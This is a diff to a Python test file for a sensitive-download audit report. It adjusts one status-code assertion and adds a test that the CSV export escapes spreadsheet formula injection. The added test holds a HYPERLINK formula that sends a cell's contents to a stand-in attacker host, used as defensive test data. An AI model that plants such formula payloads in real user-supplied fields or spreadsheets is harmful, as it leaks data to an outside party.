@@ -73,7 +73,7 @@ def test_a_public_download_is_not_recorded(client_as, persona, public_resource):
 
 @pytest.mark.parametrize("persona", ["anonymous", "pending", "other_group"])
 def test_a_refused_attempt_is_not_recorded(client_as, persona, sensitive_resource):
-    assert download(client_as(persona), sensitive_resource).status_code in (302, 403)
+    assert download(client_as(persona), sensitive_resource).status_code == 404
     assert not SensitiveDownload.objects.exists()
 
 
@@ -142,6 +142,15 @@ def test_the_csv_export_gives_the_time_in_utc_even_in_british_summer_time(audito
     SensitiveDownload.objects.update(downloaded_at=summer)
     text = b"".join(auditor.get(REPORT + "?export=csv").streaming_content).decode("utf-8-sig")
     assert list(csv.reader(io.StringIO(text)))[1][0] == "2026-07-01 09:30:15"
+
+
+def test_the_csv_export_writes_a_formula_typed_at_sign_up_as_text(auditor, logged):
+    """The organisation is whatever the person typed when they signed up."""
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
+    SensitiveDownload.objects.update(user_organisation=formula, user_email="-1+1@school.example")
+    text = b"".join(auditor.get(REPORT + "?export=csv").streaming_content).decode("utf-8-sig")
+    row = list(csv.reader(io.StringIO(text)))[1]
+    assert row[1:3] == ["'-1+1@school.example", "'" + formula]
 
 
 def test_the_spreadsheet_export_works(auditor, logged):
